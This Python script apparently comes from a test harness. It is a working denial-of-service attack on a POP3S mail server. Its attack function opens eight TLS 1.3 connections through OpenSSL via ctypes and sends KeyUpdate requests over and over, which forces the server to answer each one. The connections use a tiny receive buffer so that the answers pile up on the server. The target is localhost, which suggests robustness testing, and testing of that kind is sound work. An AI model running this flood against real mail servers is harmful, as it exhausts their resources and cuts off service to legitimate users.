import ctypes, ctypes.util, os, socket, struct, threading

WHAT = "TLS 1.3 connections to POP3S that ask for new keys again and again, and take no answer"
CONNECTIONS = 8
REQUESTED = 1  # RFC 8446 4.6.3: the other side has to answer with a KeyUpdate of its own


def openssl():
    lib = ctypes.CDLL(ctypes.util.find_library("ssl"))
    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
        getattr(lib, name).restype = ctypes.c_void_p
    return lib


def updates(lib, box, source, stop, counts):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2_048)  # so that the answers stay with the box
    s.bind((source, 0))
    s.connect(("127.0.0.1", int(box.ports["pop3s"])))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 5, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 2, 0))
    context = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
    tls = ctypes.c_void_p(lib.SSL_new(context))
    lib.SSL_set_fd(tls, s.fileno())
    if lib.SSL_connect(tls) != 1:
        counts["failed"] += 1
        return
    while not stop.is_set():
        lib.SSL_key_update(tls, REQUESTED)
        if lib.SSL_do_handshake(tls) == 1:
            counts["updates"] += 1
        elif s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            break


def attack(box, stop):
    lib, counts = openssl(), {"updates": 0, "failed": 0}
    threads = [threading.Thread(target=updates, args=(lib, box, f"127.0.14.{n % 4 + 1}", stop, counts), daemon=True)
               for n in range(CONNECTIONS)]
    for each in threads:
        each.start()
    stop.wait()
    for each in threads:
        each.join(6)
    return f"{counts['updates']} updates, {counts['failed']} connections refused"
